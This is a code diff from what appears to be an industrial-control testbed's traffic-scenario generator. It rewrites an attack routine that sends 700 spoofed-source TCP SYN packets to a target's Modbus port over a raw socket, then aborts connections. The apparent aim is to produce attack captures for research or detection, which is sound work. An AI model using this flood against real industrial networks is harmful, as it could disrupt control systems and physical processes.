@@ -8,8 +8,6 @@ import struct
 
 from scapy.layers.inet import IP, TCP
 from scapy.layers.l2 import Ether
-from scapy.packet import Packet
-from scapy.sendrecv import sendp
 
 from pcaps.scenarios.rig.layout import CHEM
 from pcaps.scenarios.rig.operations import chem_masters
@@ -26,7 +24,11 @@ async def attack(stage: Stage) -> None:
     """Send 700 SYN within some seconds, then abort 45 connections."""
     await stage.until(15)
     stage.mark()
-    await asyncio.to_thread(sendp, _make_packets(stage), iface="eth0", inter=0.004, verbose=False)
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
+        link.bind(("eth0", 0))
+        for packet in _make_packets(stage):
+            link.send(packet)
+            await asyncio.sleep(0.003)
     await stage.until(30)
     stage.mark()
     for _ in range(45):
@@ -37,11 +39,11 @@ async def attack(stage: Stage) -> None:
         await stage.wait(0.1)
 
 
-def _make_packets(stage: Stage) -> list[Packet]:
+def _make_packets(stage: Stage) -> list[bytes]:
     frame = Ether(src=CHEM.host("implant").mac, dst=_TARGET.mac) / IP(src=_FALSE_ADDRESS, dst=_TARGET.ip)
     ports = stage.random.sample(range(20_000, 60_000), 700)
     return [
-        frame / TCP(sport=port, dport=MODBUS_PORT, flags="S", seq=stage.random.getrandbits(32), window=1024)
+        bytes(frame / TCP(sport=port, dport=MODBUS_PORT, flags="S", seq=stage.random.getrandbits(32), window=1024))
         for port in ports
     ]
 
